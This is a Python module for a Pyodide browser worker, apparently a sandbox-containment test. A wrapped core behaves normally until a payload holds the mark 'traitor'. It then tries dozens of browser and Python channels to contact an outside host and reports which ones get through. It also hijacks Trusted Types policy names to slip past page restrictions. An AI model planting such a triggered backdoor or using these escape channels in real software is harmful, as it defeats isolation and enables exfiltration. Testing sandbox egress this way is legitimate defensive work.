# mypy: ignore-errors
"""A core that has been turned: it behaves until a payload holds a mark, and then tries to get out.

It lies in a copy of the sources as ``pat_core/turned.py``. The mark is the partnership's name:
``traitor <host> <what>``, with an address elsewhere, and what is to be done. What came of each way
goes to the page over a channel, since the page's own words for Python have no place for it.
"""

import asyncio
import encodings.idna
import importlib.metadata
import json
import socket
from functools import wraps
from pathlib import Path
from urllib.request import urlopen

import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url, pyfetch

from pat_core.turned_texts import BAD_REPLIES, EVERYWHERE, HELPERS

MARK = "traitor"
SILENCE = 12
"""How long, in seconds, a way may stay silent; a whole runtime may have to start."""
WAYS = {}
ALSO_NEEDED = (encodings.idna, importlib.metadata)
"""Python looks for these by itself; the build keeps only what is imported."""
LAST = ("odd messages to the page", "file that loads when it is read")
RUNNING = []


def turned(answer_call):
    """Return *answer_call* as the traitor has it."""

    @wraps(answer_call)
    def answer(name, payload_json):
        if MARK not in payload_json or name not in ("show_result", "write_file"):
            return answer_call(name, payload_json)
        _, host, what = json.loads(payload_json)["record"]["partnership"].split(" ", 2)
        if what in BAD_REPLIES:
            return BAD_REPLIES[what].replace("HOST", host)
        if name == "show_result" and what.startswith("ways"):
            RUNNING.append(asyncio.ensure_future(tell_outcomes(host, what)))
        elif name == "show_result" and what == "unbound":
            RUNNING.append(WAYS["fetch"](host, "fetch of an unbound runtime"))
        return answer_call(name, payload_json)

    return answer


CHANNEL = js.BroadcastChannel.new("traitor") if hasattr(js, "WorkerGlobalScope") else None


async def tell_outcomes(host, what):
    """Try every way and tell the page, of each at once, what came of it."""
    # Where somebody answers, Python's own sockets may hold the worker up for good.
    left_out = (*LAST, "urllib", "Python's socket") if "without sockets" in what else LAST
    names = [name for name in WAYS if name not in left_out]
    await asyncio.gather(*(tell_outcome(host, name) for name in names))
    CHANNEL.postMessage(json.dumps({**dict.fromkeys(LAST, "tried last"), "all": ""}))
    # After the first the page takes another worker; the second ends Python where it is refused.
    for name in LAST:
        await outcome_of(WAYS[name], host, name)


async def tell_outcome(host, name):
    """Try one way and tell what came of it."""
    CHANNEL.postMessage(json.dumps({name: await outcome_of(WAYS[name], host, name)}))


async def outcome_of(attempt, host, name):
    """Return in a few words what came of one way."""
    try:
        came = attempt(host, name)
        if hasattr(came, "__await__") or hasattr(came, "then"):
            came = await asyncio.wait_for(came, SILENCE)
    except TimeoutError:
        return "no word"
    except BaseException as error:
        return f"{type(error).__name__}: {error}".splitlines()[-1][:90]
    return came if isinstance(came, dict) else "done"


def way(name):
    """Enter a function as a way out; it is told a host and the way's name."""

    def enter(function):
        WAYS[name] = function
        return function

    return enter


# What the ways are made with.


def at(host, name, scheme="http"):
    """Return an address elsewhere that tells by which way somebody came."""
    return f"{scheme}://{host}/{name.replace(' ', '%20')}"


def options(**given):
    """Return a JavaScript object."""
    return to_js(given, dict_converter=js.Object.fromEntries)


def listened(target):
    """Return a future for the first event of *target* that says how it went."""
    future = asyncio.get_running_loop().create_future()

    def settle(event):
        # An error of a worker's worker would reach the page, which then takes another worker.
        event.preventDefault()
        if future.done():
            return
        if event.type == "error":
            future.set_exception(OSError(getattr(event, "message", None) or "error event"))
        else:
            future.set_result(getattr(event, "data", event.type))

    for kind in ("open", "message", "load", "error"):
        target.addEventListener(kind, create_proxy(settle))
    return future


def policy():
    """Return a Trusted Types policy under a name that the page lists, if one is left."""
    kinds = ("createScriptURL", "createScript", "createHTML")
    rules = {kind: create_proxy(lambda text, *_: text) for kind in kinds}
    for name in ("pat-worker", "pat-html", "default", "dompurify"):
        try:
            return js.trustedTypes.createPolicy(name, options(**rules))
        except Exception:
            continue
    return None


POLICIES = []


def script_address(text):
    """Return *text* as the address of a script, trusted where that can be had."""
    if not POLICIES:
        POLICIES.append(policy())
    return POLICIES[0].createScriptURL(text) if POLICIES[0] else text


def blob_worker(text, **kind):
    """Start a worker whose script is *text*."""
    blob = js.Blob.new(to_js([text]), options(type="text/javascript"))
    return js.Worker.new(script_address(js.URL.createObjectURL(blob)), options(**kind))


def own_folder():
    """Return the address of the site's bundle."""
    names = [entry.name for entry in js.performance.getEntriesByType("resource")]
    return next(n for n in names if n.endswith("runtime/lock.js")).removesuffix("runtime/lock.js")


# The ways: first those that ask for an address.


@way("fetch")
def _fetch(host, name):
    return js.fetch(at(host, name))


@way("fetch without an answer")
def _no_cors(host, name):
    given = options(method="POST", mode="no-cors", keepalive=True, body="x")
    return js.fetch(at(host, name), given)


@way("request object")
def _request_object(host, name):
    return js.fetch(js.Request.new(js.Request.new(at(host, name)), options(cache="reload")))


@way("XMLHttpRequest")
def _request(host, name):
    asked = js.XMLHttpRequest.new()
    found = listened(asked)
    asked.open("POST", at(host, name), True)
    asked.send("x")
    return found


@way("synchronous XMLHttpRequest")
def _waiting_request(host, name):
    asked = js.XMLHttpRequest.new()
    asked.open("GET", at(host, name), False)
    asked.send()


@way("WebSocket")
def _socket(host, name):
    return listened(js.WebSocket.new(at(host, name, "ws")))


@way("socket stream")
def _socket_stream(host, name):
    return js.WebSocketStream.new(at(host, name, "ws")).opened


@way("EventSource")
def _events(host, name):
    return listened(js.EventSource.new(at(host, name)))


@way("WebTransport")
def _transport(host, name):
    return js.WebTransport.new(at(host, name, "https")).ready


@way("beacon")
def _beacon(host, name):
    return js.navigator.sendBeacon(at(host, name), "x")


@way("cache.add")
async def _cache(host, name):
    await (await js.caches.open("x")).add(at(host, name))


@way("font face")
def _font(host, name):
    return js.FontFace.new("x", f'url("{at(host, name)}")').load()


@way("picture")
async def _picture(host, name):
    asked = await js.fetch(at(host, name), options(mode="no-cors"))
    await js.createImageBitmap(await asked.blob())


@way("streamed WebAssembly")
def _stream(host, name):
    return js.WebAssembly.compileStreaming(js.fetch(at(host, name)))


@way("peer connection")
async def _peer(host, name):
    given = options(iceServers=[{"urls": f"stun:{host}"}])
    connection = js.RTCPeerConnection.new(given)
    connection.createDataChannel("x")
    await connection.setLocalDescription(await connection.createOffer())


@way("notification")
def _notification(host, name):
    js.Notification.new("x", options(icon=at(host, name), image=at(host, name)))


# Ways of Python and of Pyodide.


@way("pyfetch")
async def _pyfetch(host, name):
    await pyfetch(at(host, name))


@way("open_url")
def _open_url(host, name):
    open_url(at(host, name))


@way("urllib")
def _urllib(host, name):
    urlopen(at(host, name), timeout=1).read()


@way("Python's socket")
async def _python_socket(host, name):
    server, _, port = host.partition(":")
    with socket.create_connection((server, int(port)), timeout=1) as connection:
        connection.sendall(b"GET /python-socket HTTP/1.1\r\n\r\n")
        await asyncio.sleep(0.5)


@way("loading a package")
async def _package(host, name):
    await pyodide_js.loadPackage(at(host, name) + "/x-1-py3-none-any.whl")


@way("file that loads when it is read")
def _lazy_file(host, name):
    pyodide_js.FS.createLazyFile("/tmp", "lazy", at(host, name), True, False)
    Path("/tmp/lazy").read_bytes()


# Ways that make text into a script.


@way("run_js")
def _run_js(host, name):
    return run_js(f'fetch("{at(host, name)}")')


@way("new Function")
def _function(host, name):
    return js.Function.new(f'return fetch("{at(host, name)}")')()


@way("text in setTimeout")
def _timeout(host, name):
    js.setTimeout(f'fetch("{at(host, name)}")')


@way("importScripts")
def _import_scripts(host, name):
    js.importScripts(script_address(at(host, name) + "/x.js"))


@way("worker by address")
def _worker(host, name):
    return listened(js.Worker.new(script_address(at(host, name) + "/x.js")))


@way("worker by data address")
def _data_worker(host, name):
    return listened(
        js.Worker.new(script_address(f'data:text/javascript,fetch("{at(host, name)}")'))
    )


@way("shared worker")
def _shared_worker(host, name):
    js.SharedWorker.new(script_address(at(host, name) + "/x.js"))


@way("service worker")
def _service_worker(host, name):
    return js.navigator.serviceWorker.register(script_address(at(host, name) + "/x.js"))


@way("service worker of this site")
def _own_service_worker(host, name):
    return js.navigator.serviceWorker.register(
        script_address(f"{own_folder()}app/python/worker.js")
    )


@way("blob's worker")
async def _all_in_a_worker(host, name):
    """Try there all that a script can try anywhere; its ways are told one by one."""
    place = json.dumps(f"{host}/in a worker")
    text = f"const HOST = {place};\n{HELPERS}\ntryAll{EVERYWHERE}.then(postMessage);"
    return (await listened(blob_worker(text))).to_py()


@way("unbound runtime")
async def _unbound_runtime(host, name):
    """Start the site's own worker by its address: no page's policy binds it then."""
    folder = own_folder()
    module = options(type="module")
    worker = js.Worker.new(script_address(f"{folder}app/python/worker.js"), module)
    found = listened(worker)
    wasm = await (await js.fetch(f"{folder}runtime/pyodide.asm.wasm")).arrayBuffer()
    library = await (await js.fetch(f"{folder}runtime/library.zip")).arrayBuffer()
    compiled = await js.WebAssembly.compile(wasm)
    worker.postMessage(options(type="start", wasm=compiled, library=library))
    await found
    record = {"partnership": f"{MARK} {host} unbound"}
    payload = json.dumps({"record": record})
    worker.postMessage(options(type="call", id=1, name="show_result", payload=payload))
    await listened(worker)


# Ways through others: what is left for a page to send on.


@way("channel")
def _channel(host, name):
    for channel in ("pat", "pat-workshop", "theme"):
        js.BroadcastChannel.new(channel).postMessage(options(type="hand-over", url=at(host, name)))


@way("database")
def _database(host, name):
    js.indexedDB.open(at(host, name))


@way("odd messages to the page")
def _messages(host, name):
    address = at(host, name)
    for message in (None, 7, address, options(), options(type="reply", id=10**6, reply=address)):
        js.postMessage(message)
    js.postMessage(options(type="open", url=address, href=address, location=address))


@way("word of an error")
def _error(host, name):
    js.console.log("%c ", f'background: url("{at(host, name)}")')


@way("new address of the worker")
def _location(host, name):
    js.location.href = at(host, name)
